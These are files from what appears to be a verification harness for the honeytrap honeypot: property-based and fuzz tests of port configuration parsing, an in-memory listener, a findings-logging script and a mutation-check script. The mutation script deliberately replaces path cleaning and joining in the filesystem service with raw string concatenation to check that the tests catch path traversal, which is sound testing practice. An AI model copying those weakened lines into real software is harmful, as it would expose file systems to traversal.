	Port     string   `json:"port"`  // "" = key absent
	Ports    []string `json:"ports"` // nil = key absent
	Services []string `json:"services"`
	// RawPort / RawPorts: the key written with a value that is not a string / not an array of
	// strings (raw TOML: 80, true, [80, 53]); "" = not used. Such an entry does not parse as
	// protocol/port, so nothing of it is listened on. Generated only without Port / Ports.
	RawPort  string `json:"raw_port,omitempty"`
	RawPorts string `json:"raw_ports,omitempty"`
}

// svcDef is one [service.<name>] section. Type, Director and Port hold the value of the key as
// written in TOML ("" = key absent): a quoted string ("\"verif-plain\"", "\"\"") or a value of
// another type (5, ["d1"]).
type svcDef struct {
	Name     string `json:"name"`
	Type     string `json:"type"`
	Director string `json:"director"`
	Port     string `json:"port"` // the deprecated per-service port key
}

// dirDef is one [director.<name>] section; Type as in svcDef.
type dirDef struct {
	Name string `json:"name"`
	Type string `json:"type"`
}

type tableCase struct {
	Defined   []string    `json:"defined_services"` // sections of the valid plain form (older replays)
	Services  []svcDef    `json:"service_sections,omitempty"`
	Directors []dirDef    `json:"director_sections,omitempty"`
	Entries   []portEntry `json:"entries"`
}

const (
	stubType     = "verif-plain" // the service type the lab registers
	directorType = "forward"     // a director type that needs nothing from the environment to be constructed
)

// tomlString: the string a raw TOML value denotes; ok=false when the key is absent or the
// value is not a string.
func tomlString(raw string) (string, bool) {
	if !strings.HasPrefix(raw, "\"") {
		return "", false
	}
	v, err := strconv.Unquote(raw)
	return v, err == nil
}

// notAString: the key is present with a value of another type - the section cannot be read.
func notAString(raw string) bool {
	_, ok := tomlString(raw)
	return raw != "" && !ok
}

// refDefined: which service names count as defined. A section defines a service when it can be
// set up: its keys have the right types, type names a registered service type, it does not use
// the deprecated per-service port key, and - when it names a director - that director is
// configured, i.e. has a section of its own that names an available director type. Everything
// else is reported at start-up and the name stays undefined, like a name without a section.
// The second result gives the reason for each section that defines nothing.
func refDefined(c tableCase) (map[string]bool, map[string]string) {
	directors := map[string]bool{}
	for _, d := range c.Directors {
		if t, ok := tomlString(d.Type); ok && t == directorType {
			directors[d.Name] = true
		}
	}
	defined, why := map[string]bool{}, map[string]string{}
	for _, s := range c.Defined {
		defined[s] = true
	}
	for _, s := range c.Services {
		typ, _ := tomlString(s.Type)
		dir, _ := tomlString(s.Director)
		port, _ := tomlString(s.Port)
		switch {
		case notAString(s.Type) || notAString(s.Director) || notAString(s.Port):
			why[s.Name] = "section has a key of the wrong type"
		case port != "":
			why[s.Name] = "section uses the deprecated port key"
		case dir != "" && !directors[dir]:
			why[s.Name] = "its director " + strconv.Quote(dir) + " is not configured"
		case s.Type == "":
			why[s.Name] = "section has no type"
		case typ != stubType:
			why[s.Name] = "type " + strconv.Quote(typ) + " is not a service type"
		default:
			defined[s.Name] = true
		}
	}
	return defined, why
}

func (c tableCase) serviceNames() []string {
	out := append([]string{}, c.Defined...)
	for _, s := range c.Services {
		out = append(out, s.Name)
	}
	return out
}

var portStrings = []string{"tcp/80", "tcp/80", "udp/80", "tcp/81", "udp/53", "tcp/127.0.0.1:80", "tcp/127.0.0.2:80", "tcp/[::1]:80", "udp/127.0.0.1:53", "tcp/0", "tcp/65535", "udp/65535", "tcp/:81",
	"tcp/65536", "tcp/-1", "tcp", "80", "icmp/80", "", "tcp/", "udp/x", "tcp/127.0.0.1", "tcp/80/1"}

func q(xs []string) string {
	o := make([]string, len(xs))
	for i, x := range xs {
		o[i] = strconv.Quote(x)
	}
	return "[" + strings.Join(o, ", ") + "]"
}

func (c tableCase) toml(id string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "[listener]\ntype=\"verif-mem\"\nid=%q\n\n", id)
	for _, s := range c.Defined {
		fmt.Fprintf(&b, "[service.%s]\ntype=\"verif-plain\"\nid=%q\n\n", s, id+"-"+s)
	}
	for _, d := range c.Directors {
		fmt.Fprintf(&b, "[director.%s]\nhost=\"127.0.0.1:9\"\n", d.Name)
		if d.Type != "" {
			fmt.Fprintf(&b, "type=%s\n", d.Type)
		}
		b.WriteString("\n")
	}
	for _, s := range c.Services {
		fmt.Fprintf(&b, "[service.%s]\nid=%q\n", s.Name, id+"-"+s.Name)
		for _, kv := range [][2]string{{"type", s.Type}, {"director", s.Director}, {"port", s.Port}} {
			if kv[1] != "" {
				fmt.Fprintf(&b, "%s=%s\n", kv[0], kv[1])
			}
		}
		b.WriteString("\n")
	}
	for _, e := range c.Entries {
		b.WriteString("[[port]]\n")
		if e.RawPort != "" {
			fmt.Fprintf(&b, "port=%s\n", e.RawPort)
		}
		if e.RawPorts != "" {
			fmt.Fprintf(&b, "ports=%s\n", e.RawPorts)
		}
		if e.Port != "" {
			fmt.Fprintf(&b, "port=%q\n", e.Port)
		}
		if e.Ports != nil {
			fmt.Fprintf(&b, "ports=%s\n", q(e.Ports))
		}
		fmt.Fprintf(&b, "services=%s\n\n", q(e.Services))
	}
	return b.String()
}

type listened struct {
	Addr     refAddr
	Services []string // valid names, in listed order
}

func compatible(a, b refAddr) bool {
	return a.Proto == b.Proto && a.Port == b.Port && (a.IP == "" || b.IP == "" || a.IP == b.IP)
}

// observe: for entries whose host is not an IP literal but may have a meaning (name, zone) the
// statement leaves the resolution to the environment: take what ToAddr makes of them - after
// checkParse confirmed it is a rejection or one concrete address - and model everything else
// (order, first-wins, services) independently on top of it.
func observe(c tableCase) (map[string]refAddr, error) {
	res := map[string]refAddr{}
	for _, e := range c.Entries {
		for _, s := range append(append([]string{}, e.Ports...), e.Port) {
			if _, v, _ := refClassify(s); v != vSoft && v != vZoned {
				continue
			}
			if err := checkParse(s); err != nil {
				return nil, err
			}
			if addr, _, _, err := server.ToAddr(s); err == nil && addr != nil {
				if d, ok := describe(addr); ok {
					res[s] = d
				}
			}
		}
	}
	return res, nil
}

// model builds the expected AddAddress sequence.
func model(c tableCase, resolved map[string]refAddr) []listened {
	defined, _ := refDefined(c)
	var out []listened
	for _, e := range c.Entries {
		if e.RawPort != "" || e.RawPorts != "" {
			continue // not a protocol/port string at all
		}
		var strs []string
		strs = append(strs, e.Ports...)
		if e.Port != "" {
			strs = append(strs, e.Port)
		}
		for _, s := range strs {
			a, ok := refParse(s)
			if !ok {
				if a, ok = resolved[s]; !ok {
					continue
				}
			}
			var svcs []string
			for _, n := range e.Services {
				if defined[n] {
					svcs = append(svcs, n)
				}
			}
			if len(svcs) == 0 {
				continue
			}
			dup := false
			for _, l := range out {
				if compatible(l.Addr, a) {
					dup = true
				}
			}
			if dup {
				continue
			}
			out = append(out, listened{a, svcs})
		}
	}
	return out
}

func toNet(a refAddr, fallbackIP string) net.Addr {
	ip := net.ParseIP(a.IP)
	if a.IP == "" {
		ip = net.ParseIP(fallbackIP)
	}
	if a.Proto == "tcp" {
		return &net.TCPAddr{IP: ip, Port: a.Port}
	}
	return &net.UDPAddr{IP: ip, Port: a.Port}
}

func checkTable(c tableCase) error {
	resolved, err := observe(c)
	if err != nil {
		return err
	}
	id := lab.NextID()
	srv, err := lab.Start(id, c.toml(id), false)
	if err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	defer srv.Stop()
	ids := []string{id}
	for _, s := range c.serviceNames() {
		ids = append(ids, id+"-"+s)
	}
	defer lab.Forget(ids...)
	want := model(c, resolved)
	defined, why := refDefined(c)
	undefinedNote := func(names []string) string {
		note := ""
		for _, n := range names {
			if w, ok := why[n]; ok && !strings.Contains(note, strconv.Quote(n)) {
				note += fmt.Sprintf("; %q is not a defined service: %s", n, w)
			}
		}
		return note
	}
	var named []string
	for _, e := range c.Entries {
		named = append(named, e.Services...)
	}
	var got []refAddr
	for _, a := range srv.L.Addresses() {
		d, ok := describe(a)
		if !ok {
			return fmt.Errorf("listener was given an address of type %T", a)
		}
		got = append(got, d)
	}
	var wantA []refAddr
	for _, l := range want {
		wantA = append(wantA, l.Addr)
	}
	if fmt.Sprint(got) != fmt.Sprint(wantA) {
		return fmt.Errorf("listener asked to listen on %v, reference model says %v%s", got, wantA, undefinedNote(named))
	}
	// probes: every listened entry, plus addresses that must reach nobody
	type probe struct {
		addr    refAddr
		allowed []string
		conn    *lab.Conn
		dg      *lab.Datagram
		marker  string
	}
	var probes []probe
	for i, l := range want {
		probes = append(probes, probe{addr: l.Addr, allowed: l.Services, marker: fmt.Sprintf("probe-%d-%s", i, id)})
	}
	// unlistened: same ports on the other protocol, neighbouring port, other IP for specific-address entries
	cands := []refAddr{{"tcp", "", 80}, {"udp", "", 80}, {"tcp", "", 81}, {"udp", "", 53}, {"tcp", "", 82}, {"tcp", "127.0.0.3", 80}, {"udp", "127.0.0.3", 53}, {"tcp", "", 65535}, {"udp", "", 65535}, {"tcp", "", 0}}
	for i, a := range cands {
		hit := false
		probeAddr := a
		if probeAddr.IP == "" {
			probeAddr.IP = "198.51.100.9"
		}
		for _, l := range want {
			if compatible(l.Addr, probeAddr) {
				hit = true
			}
		}
		if !hit {
			probes = append(probes, probe{addr: a, allowed: nil, marker: fmt.Sprintf("stray-%d-%s", i, id)})
		}
	}
	for i := range probes {
		p := &probes[i]
		local := toNet(p.addr, "198.51.100.9")
		if p.addr.Proto == "tcp" {
			p.conn = srv.L.DialTCP(local.(*net.TCPAddr), &net.TCPAddr{IP: net.IPv4(203, 0, 113, byte(i+1)), Port: 40000 + i})
			p.conn.Send([]byte(p.marker))
			p.conn.CloseWrite()
		} else {
			p.dg = srv.L.SendUDP(local.(*net.UDPAddr), &net.UDPAddr{IP: net.IPv4(203, 0, 113, byte(i+1)), Port: 40000 + i}, []byte(p.marker))
		}
	}
	for i := range probes {
		p := &probes[i]
		if p.conn != nil && !p.conn.WaitClosed(45*time.Second) {
			return fmt.Errorf("probe to %v was not closed by the server within 45s", p.addr)
		}
	}
	// udp probes have no close signal: wait until every expected stub finished
	deadline := time.Now().Add(5 * time.Second)
	for {
		seen := map[string]string{}
		for _, s := range c.serviceNames() {
			st := lab.GetStub(id + "-" + s)
			if st == nil {
				if !defined[s] {
					continue // a section that defines nothing: no service was constructed (if one is, it must still see no connection)
				}
				return fmt.Errorf("infra: stub %s missing", s)
			}
			for _, inv := range st.Invocations() {
				if inv.Done {
					if prev, dup := seen[string(inv.Data)]; dup {
						return fmt.Errorf("probe %q reached two services: %s and %s", inv.Data, prev, s)
					}
					seen[string(inv.Data)] = s
				}
			}
		}
		missing := ""
		for _, p := range probes {
			svc, ok := seen[p.marker]
			if p.allowed == nil {
				if ok {
					return fmt.Errorf("connection to %v, which is not a listened entry, reached service %s", p.addr, svc)
				}
				continue
			}
			if !ok {
				missing = p.addr.String()
				continue
			}
			found := false
			for _, a := range p.allowed {
				if a == svc {
					found = true
				}
			}
			if !found {
				return fmt.Errorf("connection to %v reached service %s, the entry's defined services are %v%s", p.addr, svc, p.allowed, undefinedNote([]string{svc}))
			}
		}
		if missing == "" {
			break
		}
		if time.Now().After(deadline) {
			return fmt.Errorf("probe to listened entry %s reached no service", missing)
		}
		time.Sleep(2 * time.Millisecond)
	}
	return nil
}

var tablePorts = []string{"80", "80", "81", "53", "65535", "0", "65536"}

func genPortString(t *rapid.T) string {
	if rapid.IntRange(0, 4).Draw(t, "hostgen") == 0 {
		s := genHostEntry(t, tablePorts, false)
		if !unclassifiedHost(s) {
			return s
		}
	}
	return rapid.SampledFrom(portStrings).Draw(t, "portstr")
}

// The values a section key is generated with (raw TOML, "" = key absent). Each list holds the
// valid form several times and one representative of every way the start-up code tells the
// section apart: unknown name, empty string, key absent, value of the wrong type.
var (
	svcTypes     = []string{q1(stubType), q1(stubType), q1(stubType), q1(stubType), q1(stubType), q1(stubType), q1(stubType), q1("nosuchtype"), q1(directorType), q1(""), "", "5"}
	svcDirectors = []string{"", "", "", "", "", q1(""), q1("d1"), q1("d1"), q1("d2"), q1("d2"), q1("d3"), q1("nodir"), q1(stubType), "7", "[\"d1\"]"}
	svcPorts     = []string{"", "", "", "", "", "", "", "", "", q1(""), q1("tcp/80"), q1("udp/53"), "80"}
	dirTypes     = []string{q1(directorType), q1(directorType), q1(directorType), q1(directorType), q1("nosuchdirector"), q1(stubType), q1(""), "", "5"}
	rawPortVals  = []string{"80", "53", "0", "65535", "true", "80.5", "[80]"}
	rawPortsVals = []string{"[80]", "[80, 53]", "80", "[true]", "[[80]]"}
)

func q1(s string) string { return strconv.Quote(s) }

// genSections: service sections s1..s3 (each present or not) whose type, director and port
// keys are drawn independently, and director sections d1..d3 (each present or not) with a
// drawn type: the same director name is configured in one case, present but unusable in the
// next and absent in a third, and the reference decides which services that leaves defined.
func genSections(t *rapid.T, c *tableCase) {
	for _, d := range []string{"d1", "d2", "d3"} {
		if rapid.IntRange(0, 2).Draw(t, "dir-"+d) > 0 {
			c.Directors = append(c.Directors, dirDef{d, rapid.SampledFrom(dirTypes).Draw(t, "dirtype")})
		}
	}
	for _, s := range rapid.SliceOfNDistinct(rapid.SampledFrom([]string{"s1", "s2", "s3"}), 0, 3, rapid.ID[string]).Draw(t, "sections") {
		def := svcDef{Name: s, Type: q1(stubType)}
		if rapid.IntRange(0, 2).Draw(t, "plain") > 0 {
			def.Type = rapid.SampledFrom(svcTypes).Draw(t, "svctype")
			def.Director = rapid.SampledFrom(svcDirectors).Draw(t, "svcdirector")
			def.Port = rapid.SampledFrom(svcPorts).Draw(t, "svcport")
		}
		c.Services = append(c.Services, def)
	}
}

func genTable(t *rapid.T) tableCase {
	var c tableCase
	genSections(t, &c)
	n := rapid.IntRange(1, 4).Draw(t, "entries")
	names := []string{"s1", "s2", "s3", "nosuch", "s1"}
	for i := 0; i < n; i++ {
		var e portEntry
		switch rapid.IntRange(0, 19).Draw(t, "rawform") {
		case 0:
			e.RawPort = rapid.SampledFrom(rawPortVals).Draw(t, "rawport")
		case 1:
			e.RawPorts = rapid.SampledFrom(rawPortsVals).Draw(t, "rawports")
		}
		if e.RawPort != "" || e.RawPorts != "" {
			e.Services = rapid.SliceOfN(rapid.SampledFrom(names), 1, 3).Draw(t, "services")
			c.Entries = append(c.Entries, e)
			continue
		}
		switch rapid.IntRange(0, 3).Draw(t, "form") {
		case 0:
			e.Port = genPortString(t)
		case 1:
			e.Ports = rapid.SliceOfN(rapid.Custom(genPortString), 0, 3).Draw(t, "ports")
			if e.Ports == nil {
				e.Ports = []string{}
			}
		case 2:
			e.Port = genPortString(t)
			e.Ports = rapid.SliceOfN(rapid.Custom(genPortString), 1, 2).Draw(t, "ports")
		default:
		}
		e.Services = rapid.SliceOfN(rapid.SampledFrom(names), 0, 3).Draw(t, "services")
		if e.Services == nil {
			e.Services = []string{}
		}
		c.Entries = append(c.Entries, e)
	}
	return c
}

func nontrivial(c tableCase) bool {
	// >=2 entries that collide, or an entry mixing valid and unknown services
	defined, _ := refDefined(c)
	var seen []refAddr
	for _, e := range c.Entries {
		v, u := false, false
		for _, s := range e.Services {
			if defined[s] {
				v = true
			} else {
				u = true
			}
		}
		if v && u {
			return true
		}
		strs := append(append([]string{}, e.Ports...), e.Port)
		for _, s := range strs {
			if _, _, class := refClassify(s); class != "" && class != "none" && class != "literal" && len(e.Services) > 0 {
				return true
			}
			if a, ok := refParse(s); ok {
				for _, p := range seen {
					if compatible(p, a) {
						return true
					}
				}
				seen = append(seen, a)
			}
		}
	}
	return false
}

// sectionClass: what the entries' service names meet in the service sections - for the labels.
func sectionClass(c tableCase) string {
	defined, why := refDefined(c)
	alone, mixed, dir := false, false, false
	for _, e := range c.Entries {
		v, u := false, false
		for _, n := range e.Services {
			if defined[n] {
				v = true
				for _, s := range c.Services {
					if s.Name == n && s.Director != "" && s.Director != q1("") {
						dir = true
					}
				}
			} else if _, ok := why[n]; ok {
				u = true
			}
		}
		if u && v {
			mixed = true
		} else if u {
			alone = true
		}
	}
	switch {
	case mixed:
		return "unusable-section-named-with-defined"
	case alone:
		return "unusable-section-named-alone"
	case dir:
		return "service-with-director-named"
	}
	return "sections-usable-or-unnamed"
}

func TestPortTable(t *testing.T) {
	r := vlib.Open(prop)
	var tc tableCase
	if vlib.ReplayCase("TestPortTable", &tc) {
		if err := checkTable(tc); err != nil {
			r.Violation(t, "TestPortTable", tc, err.Error())
		}
		return
	}
	r.Rule("configurations of 1..4 port entries using port and/or ports with well-formed and malformed strings (one entry in ten writes the key with a value that is not a string / list of strings), service lists naming defined, undefined and duplicate stub services; service sections s1..s3 present or absent with independently drawn type (stub type, unknown, empty, absent, not a string), director (absent, empty, d1..d3, a name without section, not a string) and deprecated port key; director sections d1..d3 present or absent with drawn type (available, unknown, empty, absent, not a string) - reference: a section defines a service iff its keys are strings, the type is a service type, no per-service port, and a named director has a section with an available type; real Run() with a recording listener; oracle = reference table builder (set and order of AddAddress calls) + probe connections (tcp and udp) to listened and unlistened addresses, looking at the stubs of every section incl. the ones that define nothing; one port string in five has a generated host part (invalid neighbours of IP literals, zones, host names - see TestToAddrHosts) on the ports the other entries use, so that a mis-parsed entry competes for the first-wins slot; non-trivial = colliding entries, an entry mixing defined and undefined services, or an entry with services whose host part is not an IP literal")
	r.Rapid(t, "TestPortTable", r.Pick(6000, 60000), func(rt *rapid.T) {
		c := genTable(rt)
		fp := ""
		if nontrivial(c) {
			fp = vlib.JSON(c)
		}
		r.Case(fmt.Sprintf("table/entries=%d/%s", len(c.Entries), sectionClass(c)), fp, func() interface{} { return c })
		if err := checkTable(c); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, "TestPortTable", c, "%v", err)
		}
	})
}
