#!/usr/bin/env python3
"""kf.py <property> <id> <fixed|known> <commit-or-> <what>  - append to known_findings.json"""
import json, sys
prop, fid, status, commit, what = sys.argv[1:6]
k = json.load(open('/verif/known_findings.json'))
k = [x for x in k if x["id"] != fid]
e = {"property": prop, "id": fid, "status": status, "what": what}
if status == "fixed":
    e["commit"] = commit
    e["line"] = "fixed: property=%s %s %s" % (prop, commit, what)
else:
    e["line"] = "known: property=%s %s" % (prop, what)
k.append(e)
json.dump(k, open('/verif/known_findings.json', 'w'), indent=1)
