#!/bin/bash
cd /verif
echo "== realpath rel concat"; ./mutcheck.sh C11 services/filesystem/htfs.go 'abspath = filepath.Join(f.cwd, path)' 'abspath = f.cwd + "/" + path'
echo "== realpath abs no clean"; ./mutcheck.sh C11 services/filesystem/htfs.go 'abspath = filepath.Clean(path)' 'abspath = path'
echo "== changedir keeps rel unrooted"; ./mutcheck.sh C11 services/filesystem/htfs.go 'f.cwd = filepath.Join(string(filepath.Separator), rel)' 'f.cwd = string(filepath.Separator) + rel'
