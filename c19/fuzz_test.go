package c19

import (
	"testing"
)

// FuzzToAddr: arbitrary port strings against the reference parser.
func FuzzToAddr(f *testing.F) {
	for _, s := range append([]string{"tcp/80", "udp/[::1]:53", "tcp/127.0.0.1:65535"}, malformed...) {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 256 {
			return
		}
		// the reference covers IP-literal hosts and plain decimal ports; everything else the
		// statement does not classify (host names need DNS, "+80", "080", zones, 0.0.0.0)
		if a, ok := refParse(s); ok {
			if a.IP == "0.0.0.0" || a.IP == "::" {
				return
			}
			rest := s[len(a.Proto)+1:]
			for i := 0; i+1 < len(rest); i++ {
				if (i == 0 || rest[i-1] == ':') && rest[i] == '0' && rest[i+1] >= '0' && rest[i+1] <= '9' {
					return // leading zero in the port
				}
			}
			if err := checkParse(s); err != nil {
				t.Fatal(err)
			}
			return
		}
		// malformed by the reference: only assert for strings that are clearly outside the
		// accepted grammar (no host part at all)
		for _, c := range s {
			if c == ':' || c == '[' || c == '%' || c == '+' || c == ' ' {
				return
			}
		}
		if err := checkParse(s); err != nil {
			t.Fatal(err)
		}
	})
}
