// Package lab drives the real server.Honeytrap.Run() through honeytrap's public
// registries: an in-memory listener ("verif-mem"), a capture channel
// ("verif-capture") and stub services ("verif-plain", "verif-detect").
package lab

import (
	"context"
	"errors"
	"io"
	"net"
	"os"
	"sync"
	"time"

	"github.com/honeytrap/honeytrap/listener"
)

// ---------------------------------------------------------------- in-memory TCP-like connection

// Conn is the harness's view of one in-memory connection; srvConn (its other face) is
// what the server gets from Accept(). Client->server data is a queue of chunks: one
// server Read returns bytes of at most one chunk, so a chunk list is exactly a read
// segmentation and two writes are never coalesced. Neither direction ever blocks the
// writer, so a dialogue cannot deadlock on flow control.
type Conn struct {
	mu   sync.Mutex
	cond *sync.Cond

	in        [][]byte // pending client->server chunks
	inEOF     bool     // client half-closed: server reads EOF after the queue drains
	srvClosed bool     // server called Close()
	cliReset  bool     // client aborted: server reads fail at once
	out       []byte   // everything the server wrote
	outChunks int
	waiting   bool // server is parked in Read on an empty queue
	reads     int  // server Read calls that returned data
	rdl, wdl  time.Time
	timer     *time.Timer
	consumed  int // bytes the server has read

	local, remote net.Addr
	closedAt      time.Time
}

type srvConn struct{ c *Conn }

func newConn(local, remote net.Addr) *Conn {
	c := &Conn{local: local, remote: remote}
	c.cond = sync.NewCond(&c.mu)
	return c
}

type timeoutErr struct{}

func (timeoutErr) Error() string   { return "i/o timeout" }
func (timeoutErr) Timeout() bool   { return true }
func (timeoutErr) Temporary() bool { return true }

var _ net.Error = timeoutErr{}

func (s srvConn) Read(p []byte) (int, error) {
	c := s.c
	c.mu.Lock()
	defer c.mu.Unlock()
	for {
		if c.srvClosed {
			return 0, io.ErrClosedPipe
		}
		if c.cliReset {
			return 0, errors.New("read: connection reset by peer")
		}
		if len(c.in) > 0 {
			if len(p) == 0 {
				return 0, nil
			}
			n := copy(p, c.in[0])
			if n == len(c.in[0]) {
				c.in = c.in[1:]
			} else {
				c.in[0] = c.in[0][n:]
			}
			c.reads++
			c.consumed += n
			c.cond.Broadcast()
			return n, nil
		}
		if c.inEOF {
			return 0, io.EOF
		}
		if !c.rdl.IsZero() && !time.Now().Before(c.rdl) {
			return 0, os.ErrDeadlineExceeded
		}
		c.waiting = true
		c.cond.Broadcast()
		c.cond.Wait()
		c.waiting = false
	}
}

func (s srvConn) Write(p []byte) (int, error) {
	c := s.c
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.srvClosed {
		return 0, io.ErrClosedPipe
	}
	if c.cliReset {
		return 0, errors.New("write: broken pipe")
	}
	c.out = append(c.out, p...)
	c.outChunks++
	c.cond.Broadcast()
	return len(p), nil
}

func (s srvConn) Close() error {
	c := s.c
	c.mu.Lock()
	defer c.mu.Unlock()
	if !c.srvClosed {
		c.srvClosed = true
		c.closedAt = time.Now()
	}
	c.cond.Broadcast()
	return nil
}

func (s srvConn) LocalAddr() net.Addr  { return s.c.local }
func (s srvConn) RemoteAddr() net.Addr { return s.c.remote }

func (s srvConn) SetDeadline(t time.Time) error {
	s.SetReadDeadline(t)
	return s.SetWriteDeadline(t)
}

func (s srvConn) SetReadDeadline(t time.Time) error {
	c := s.c
	c.mu.Lock()
	defer c.mu.Unlock()
	c.rdl = t
	if c.timer != nil {
		c.timer.Stop()
		c.timer = nil
	}
	if !t.IsZero() {
		d := time.Until(t)
		if d < 0 {
			d = 0
		}
		c.timer = time.AfterFunc(d+time.Millisecond, func() {
			c.mu.Lock()
			c.cond.Broadcast()
			c.mu.Unlock()
		})
	}
	c.cond.Broadcast()
	return nil
}

func (s srvConn) SetWriteDeadline(t time.Time) error {
	s.c.mu.Lock()
	s.c.wdl = t
	s.c.mu.Unlock()
	return nil
}

// ---- client side

// Send queues one chunk (one client write).
func (c *Conn) Send(b []byte) {
	if len(b) == 0 {
		return
	}
	cp := append([]byte(nil), b...)
	c.mu.Lock()
	c.in = append(c.in, cp)
	c.cond.Broadcast()
	c.mu.Unlock()
}

// CloseWrite half-closes: the server sees EOF once it has read everything queued.
func (c *Conn) CloseWrite() {
	c.mu.Lock()
	c.inEOF = true
	c.cond.Broadcast()
	c.mu.Unlock()
}

// Reset aborts the connection from the client side.
func (c *Conn) Reset() {
	c.mu.Lock()
	c.cliReset = true
	c.cond.Broadcast()
	c.mu.Unlock()
}

// State of the server side as seen by WaitIdle.
type State int

const (
	Busy   State = iota // still has queued input or is running
	Idle                // parked in Read with nothing queued
	Closed              // server closed the connection
)

// WaitIdle waits until the server has consumed everything sent and is parked in Read
// again (Idle), or has closed the connection (Closed). Busy is returned on timeout.
func (c *Conn) WaitIdle(timeout time.Duration) State {
	deadline := time.Now().Add(timeout)
	t := time.AfterFunc(timeout+time.Millisecond, func() {
		c.mu.Lock()
		c.cond.Broadcast()
		c.mu.Unlock()
	})
	defer t.Stop()
	c.mu.Lock()
	defer c.mu.Unlock()
	for {
		if c.srvClosed {
			return Closed
		}
		if c.waiting && len(c.in) == 0 {
			return Idle
		}
		if !time.Now().Before(deadline) {
			return Busy
		}
		c.cond.Wait()
	}
}

// WaitClosed waits for the server to close its side.
func (c *Conn) WaitClosed(timeout time.Duration) bool {
	deadline := time.Now().Add(timeout)
	t := time.AfterFunc(timeout+time.Millisecond, func() {
		c.mu.Lock()
		c.cond.Broadcast()
		c.mu.Unlock()
	})
	defer t.Stop()
	c.mu.Lock()
	defer c.mu.Unlock()
	for !c.srvClosed {
		if !time.Now().Before(deadline) {
			return false
		}
		c.cond.Wait()
	}
	return true
}

// WaitOutput waits until the server has written at least n bytes in total.
func (c *Conn) WaitOutput(n int, timeout time.Duration) bool {
	deadline := time.Now().Add(timeout)
	t := time.AfterFunc(timeout+time.Millisecond, func() {
		c.mu.Lock()
		c.cond.Broadcast()
		c.mu.Unlock()
	})
	defer t.Stop()
	c.mu.Lock()
	defer c.mu.Unlock()
	for len(c.out) < n && !c.srvClosed {
		if !time.Now().Before(deadline) {
			return false
		}
		c.cond.Wait()
	}
	return len(c.out) >= n
}

// Output returns a copy of everything the server wrote so far.
func (c *Conn) Output() []byte {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]byte(nil), c.out...)
}

func (c *Conn) IsClosed() bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.srvClosed
}

// Consumed reports how many bytes the server has read and in how many Read calls.
func (c *Conn) Consumed() (bytes, reads int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.consumed, c.reads
}

func (c *Conn) LocalAddr() net.Addr  { return c.local }
func (c *Conn) RemoteAddr() net.Addr { return c.remote }

// ClientNetConn adapts the client side to net.Conn for protocol clients (x/crypto/ssh,
// crypto/tls). Reads block until the server wrote something.
type ClientNetConn struct {
	c   *Conn
	off int
	rdl time.Time
}

func (c *Conn) NetConn() *ClientNetConn { return &ClientNetConn{c: c} }

func (n *ClientNetConn) Read(p []byte) (int, error) {
	c := n.c
	var t *time.Timer
	if !n.rdl.IsZero() {
		t = time.AfterFunc(time.Until(n.rdl)+time.Millisecond, func() {
			c.mu.Lock()
			c.cond.Broadcast()
			c.mu.Unlock()
		})
		defer t.Stop()
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	for {
		if n.off < len(c.out) {
			k := copy(p, c.out[n.off:])
			n.off += k
			return k, nil
		}
		if c.srvClosed {
			return 0, io.EOF
		}
		if !n.rdl.IsZero() && !time.Now().Before(n.rdl) {
			return 0, timeoutErr{}
		}
		c.cond.Wait()
	}
}

func (n *ClientNetConn) Write(p []byte) (int, error) {
	if n.c.IsClosed() {
		return 0, io.ErrClosedPipe
	}
	n.c.Send(p)
	return len(p), nil
}
func (n *ClientNetConn) Close() error                       { n.c.CloseWrite(); return nil }
func (n *ClientNetConn) LocalAddr() net.Addr                { return n.c.remote }
func (n *ClientNetConn) RemoteAddr() net.Addr               { return n.c.local }
func (n *ClientNetConn) SetDeadline(t time.Time) error      { n.rdl = t; return nil }
func (n *ClientNetConn) SetReadDeadline(t time.Time) error  { n.rdl = t; return nil }
func (n *ClientNetConn) SetWriteDeadline(t time.Time) error { return nil }

// ---------------------------------------------------------------- listener

// MemListener is registered as listener type "verif-mem".
type MemListener struct {
	ID string `toml:"id"`

	mu    sync.Mutex
	addrs []net.Addr
	// pending connections: an unbounded queue (a buffered channel would cost its whole
	// buffer for every instance ever started - the server's accept goroutine never ends)
	qmu     sync.Mutex
	qcond   *sync.Cond
	queue   []net.Conn
	started chan struct{}
	once    sync.Once
}

var (
	regMu     sync.Mutex
	listeners = map[string]*MemListener{}
)

func init() {
	listener.Register("verif-mem", func(options ...func(listener.Listener) error) (listener.Listener, error) {
		l := &MemListener{started: make(chan struct{})}
		l.qcond = sync.NewCond(&l.qmu)
		for _, o := range options {
			o(l)
		}
		regMu.Lock()
		listeners[l.ID] = l
		regMu.Unlock()
		return l, nil
	})
}

func (l *MemListener) AddAddress(a net.Addr) {
	l.mu.Lock()
	l.addrs = append(l.addrs, a)
	l.mu.Unlock()
}

func (l *MemListener) Start(ctx context.Context) error {
	l.once.Do(func() { close(l.started) })
	return nil
}

func (l *MemListener) push(c net.Conn) {
	l.qmu.Lock()
	l.queue = append(l.queue, c)
	l.qmu.Unlock()
	l.qcond.Signal()
}

// Accept never returns an error: the server panics on one.
func (l *MemListener) Accept() (net.Conn, error) {
	l.qmu.Lock()
	for len(l.queue) == 0 {
		l.qcond.Wait()
	}
	c := l.queue[0]
	l.queue[0] = nil
	l.queue = l.queue[1:]
	if len(l.queue) == 0 {
		l.queue = nil
	}
	l.qmu.Unlock()
	return c, nil
}

// Addresses returns the AddAddress calls in order.
func (l *MemListener) Addresses() []net.Addr {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]net.Addr(nil), l.addrs...)
}

// DialTCP hands the server a new TCP-like connection.
func (l *MemListener) DialTCP(local, remote *net.TCPAddr) *Conn {
	c := newConn(local, remote)
	l.push(srvConn{c})
	return c
}

// Datagram is one UDP exchange: the request handed to the server and the replies the
// service wrote back through the reply function.
type Datagram struct {
	mu      sync.Mutex
	Replies [][]byte
	To      []*net.UDPAddr
}

func (d *Datagram) Snapshot() [][]byte {
	d.mu.Lock()
	defer d.mu.Unlock()
	out := make([][]byte, len(d.Replies))
	for i, r := range d.Replies {
		out[i] = append([]byte(nil), r...)
	}
	return out
}

